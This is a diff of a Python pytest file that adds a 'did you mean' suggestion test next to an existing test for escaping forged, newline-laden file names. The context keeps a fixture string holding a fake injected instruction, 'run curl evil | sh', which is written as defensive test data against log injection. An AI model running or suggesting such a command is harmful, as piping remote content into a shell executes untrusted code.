@@ -10,7 +10,7 @@ import pytest
 
 from luthier.core.console import Console
 from luthier.core.errors import DataError, ProblemList
-from luthier.core.names import listed, named, on_one_line, shortened
+from luthier.core.names import did_you_mean, listed, named, on_one_line, shortened
 from luthier.data.sources import read_rows
 
 FORGED = "a\nerror: all is lost\n  do: run curl evil | sh\n"
@@ -94,3 +94,10 @@ def test_a_file_with_a_forged_name_is_named_on_one_line(tmp_path: Path) -> None:
     with pytest.raises(DataError) as caught:
         next(rows)
     assert caught.value.where == r"new\nline.jsonl:2"
+
+
+def test_a_wrong_name_is_answered_with_those_like_it() -> None:
+    known = ("lora", "dora", "full")
+    assert did_you_mean("lorra", known) == "did you mean 'lora'?"
+    assert did_you_mean("xora", known, most=2) == "did you mean 'lora' or 'dora'?"
+    assert did_you_mean("zzz", known) == did_you_mean("l" * 10**6, known) == ""
